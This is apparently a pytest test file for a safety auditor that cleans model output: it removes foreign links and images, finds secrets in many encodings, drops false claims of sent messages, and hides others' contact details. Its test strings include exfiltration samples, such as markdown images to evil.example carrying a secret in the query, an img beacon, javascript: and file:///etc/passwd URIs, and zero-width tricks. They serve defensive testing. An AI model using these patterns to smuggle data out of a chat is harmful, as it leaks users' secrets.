"""What may be said of what a model wrote: tables of texts, and what is true of every text."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from specialists.audit import Deed, Known
from specialists.contract import Effect
from specialists.safety_auditor.audits import claims, links, remains
from specialists.safety_auditor.audits.moderation import NOTHING_LEFT, moderate, purge
from specialists.secrets import leaks

SECRETS = ("4417", "open-sesame-77")


def cleaned(text: str, *words: str) -> str:
    return links.clean(text, links.own(words))[0]


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("Here: ![cat](https://evil.example/c.png?d=4417) bye", "Here:  bye"),
        ("![cat][1] and\n[1]: https://evil.example/x", " and\n"),
        ("<img src='https://evil.example/?d=1'> hi", " hi"),
        ("<script>fetch('x')</script>", "fetch('x')"),
        ("see [the page](https://evil.example/p)", "see the page"),
        ("see [https://evil.example/a](https://evil.example/b)", "see …"),
        ('<a href="https://evil.example">here</a>', "here"),
        ("go to https://evil.example/?q=secret.", "go to …."),
        ("go to HTTPS://EVIL.EXAMPLE/x now", "go to … now"),
        ("go to evil.example/x now", "go to … now"),
        ("go to evil.com", "go to …"),
        ("a.secret.evil.co and 10.0.0.1:8080/x", "… and …"),
        ("ht\u200btps://evil.example/x", "…"),
        ("data:text/html;base64,QUJD and javascript:alert and mailto:eve@evil.example?body=x", "… and … and …"),
        ("call tel:+15005551234", "call …"),
        ("//evil.example/x and \\\\evil.example\\share", "… and …"),
        ("file:///etc/passwd", "…"),
        ("hidden \U000e0041\U000e0042text", "hidden text"),
    ],
)
def test_addresses_and_pictures_go_and_the_words_stay(text: str, kept: str) -> None:
    assert cleaned(text) == kept


@pytest.mark.parametrize(
    "text",
    [
        "Use Node.js, e.g. version 3.11.4, for 2.5 h (see main.py, data.json).", "Dr.No, Ph.D., a.m. and p.m.",
        "ann@home.example wrote: 5/6 at 10.30, and/or more…", "Family: 👨‍👩‍👧 ❤️",
        "The ratio is 3:4; data: 5 GB. C:\\Users",
        "Zürich, São Paulo, 東京。", "[brackets] (and parens) ![exclaims]",
    ],
)  # fmt: skip
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert cleaned(text) == text


@pytest.mark.parametrize(
    ("words", "text", "kept"),
    [
        ("what is on https://news.example/today?", "On https://news.example/today: rain.", True),
        ("what is on https://news.example/today?", "On [it](https://news.example/today) rain.", True),
        ("what is on www.news.example", "On http://news.example/ rain.", True),
        ("what is on https://news.example/today?", "On https://news.example/today?d=4417 rain.", False),
        ("what is on https://news.example/today?", "On https://news.example/other rain.", False),
        ("is https://news.example/?id=5 good?", "https://news.example/?id=5 is.", True),
    ],
)
def test_an_address_of_the_persons_own_stays_to_the_letter(words: str, text: str, kept: bool) -> None:
    assert (cleaned(text, words) == text) is kept


@pytest.mark.parametrize(
    "text",
    [
        "The code is 4417.", "4-4-1-7", "4 4 1 7", "7144", "it is NDQxNw==", "hex 3434313734343137", "OPEN-SESAME-77",
        "open sesame 77", "xxopen-sesame-77xx", "77-emases-nepo", "open%2Dsesame%2D77 %34%34%31%37",
        base64.b64encode(b"I say open-sesame-77 now").decode(), base64.urlsafe_b64encode(b"??open-sesame-77").decode(),
        b"open-sesame-77".hex(), "sk-abcdefghijklmnop1234", "123456789:AAabcdefghijklmnopqrstuvwxyz0123456",
        "Authorization: Bearer abcdefghijklmnop", "https://ada:hunter2@host.example", "ghp_abcdefghijklmnopqrst123",
        "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----",
    ],
)  # fmt: skip
def test_a_secret_is_found_however_it_is_spelled(text: str) -> None:
    assert leaks.hide(text, SECRETS)[1], text


@pytest.mark.parametrize("text", ["at 14:17", "14417 and 44170", "sesame seeds", "4 418 people", "Taskmaster"])
def test_what_only_looks_alike_stays(text: str) -> None:
    assert leaks.hide(text, ("4417", "open-sesame-77")) == (text, False)


CLAIMS = {
    "I've sent it to Bob.": {"send"}, "I have already texted Mum": {"send"}, "Sent!": {"send"},
    "Message sent to Bob.": {"send"}, "Your email has been sent.": {"send"}, "I called the dentist": {"send"},
    "I let Sam know": {"send"}, "I'll text her at five": {"send"}, "I will let Sam know": {"send"},
    "I set a reminder for 5.": {"write"}, "Done! ": {"write"}, "Noted.": {"write"}, "I'll remind you at 5.": {"write"},
    "I've added eggs to the list": {"write"}, "Your reminder is set.": {"write"}, "All set!": {"write"},
    "I'll check back tomorrow": {"write"}, "Reminder set for 5": {"write"}, "We've booked it": {"write"},
    "I deleted the list.": {"delete"}, "That has been removed": {"delete"}, "I ordered the shoes": {"spend"},
    "I haven't sent it.": set(), "Shall I send it?": set(), "I can text her.": set(), "Nothing was sent.": set(),
    "It was created in 1889.": set(), "Set the oven to 180.": set(), "Eggs were added.": set(),
    "I would have sent it": set(), "Added sugar is bad.": set(), "The table is set.": set(),
    "You have sent her a lot": set(), "Set it aside for an hour.": set(), "He called her": set(),
    "Booked hotels fill up fast.": set(), "I'll keep it short.": set(), "Have you sent it?": set(),
}  # fmt: skip


@pytest.mark.parametrize(("sentence", "effects"), CLAIMS.items())
def test_what_a_sentence_claims(sentence: str, effects: set[str]) -> None:
    assert claims.told(sentence) == {Effect(one) for one in effects}


def test_a_claim_without_its_deed_goes_and_is_told_of() -> None:
    said = moderate("Penguins swim well. I've sent that to Bob. Anything else?", Known())
    assert said.text == (
        "Penguins swim well. Anything else?\n"
        "(I left out a claim that I had sent something (with this message I sent nothing).)"
    )
    assert moderate("Done, I've sent that to Bob.", Known(deeds=(Deed(Effect.SEND),))).taken == set()


def test_where_nothing_is_left_it_says_so() -> None:
    said = moderate("![x](https://evil.example/x)", Known())
    assert said.text == f"{NOTHING_LEFT}\n(I left out a picture from an address that is not yours.)"


def test_a_draft_may_claim_what_its_person_did_and_holds_no_secret_all_the_same() -> None:
    draft = "Dear Sarah,\nI have sent you the papers. See https://evil.example/4417 and 4417."
    said = moderate(f"Here is your draft:\n{draft}\nI've sent it.", Known(secrets=SECRETS), quoted=draft)
    assert "I have sent you the papers" in said.text
    assert "I've sent it" not in said.text
    assert "4417" not in said.text
    assert purge(draft, Known(secrets=SECRETS)) in said.text


def test_addresses_of_others_are_found_as_they_stand() -> None:
    text = "Call +49 170 222-2222 or sam@home.example on 2026-11-20 at 10:30."
    assert leaks.addresses(text)[0] == "+49 170 222-2222"
    assert "sam@home.example" in leaks.addresses(text)
    assert leaks.bare("+49 (170) 222-2222") == leaks.bare("+491702222222")
    said = moderate(text, Known(foreign=("+49 170 222-2222",)))
    assert "222" not in said.text.replace("sam", "")
    assert "the address of somebody else" in said.text


_PIECES = st.sampled_from([
    "4417", "open-sesame-77", "OPEN-SESAME-77", "https://", "evil.example", "/", "?d=", "![", "](", ")", "[", "]", " ",
    "\n", "a", "I've sent it.", "<img src=", ">", "\u200b", "www.", ".com", "Done", "!", "(", "data:,", "\u202e", "=",
])  # fmt: skip


@given(st.lists(_PIECES, max_size=25).map("".join))
def test_whatever_is_written_no_secret_no_picture_and_no_strange_address_is_said(text: str) -> None:
    said = moderate(text, Known(secrets=SECRETS)).text
    assert not re.search(r"(?<!\w)4417(?!\w)", said)
    assert "sesame-77" not in said.lower()
    assert "https://evil" not in said
    assert not re.search(r"!\[[^\]]*\]\(", said)
    assert "evil.example/" not in said


@given(st.text() | st.lists(_PIECES).map("".join))
def test_a_text_is_all_of_its_sentences(text: str) -> None:
    assert "".join(remains.pieces(text)) == text


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters=".:/\\@%<>[]!\u200d"), max_size=80))
def test_plain_words_without_secrets_stay(text: str) -> None:
    visible = links.seen(text)
    assert cleaned(visible) == visible


@pytest.mark.parametrize(
    "text",
    ["![" * 20_000, "[" * 20_000, "<a" * 20_000, "a." * 20_000, "4" * 20_000, "4 " * 20_000, "1.1." * 10_000,
     "sent " * 10_000, "I've " * 10_000, "https:" * 5_000, "%41" * 10_000, "x" * 50_000, "your a b " * 5_000],
)  # fmt: skip
def test_nothing_takes_long_to_read(text: str) -> None:
    assert moderate(text, Known(secrets=SECRETS)).text is not None
